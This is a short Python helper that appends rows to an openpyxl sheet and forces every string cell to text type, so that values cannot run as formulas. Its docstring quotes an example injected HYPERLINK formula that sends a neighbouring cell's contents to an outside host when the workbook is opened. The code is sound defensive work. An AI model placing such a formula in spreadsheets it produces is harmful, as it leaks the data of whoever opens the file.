"""Writing spreadsheet rows so that no text becomes a formula. openpyxl stores a string beginning
with «=» as a formula: a name like `=HYPERLINK("http://…/?d="&J2, "…")` would send a neighbouring
cell to an outside host when the workbook is opened. Every text cell we write is typed as text."""


def append_row(sheet, values) -> None:
    """`sheet.append(values)`, with every text value kept as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
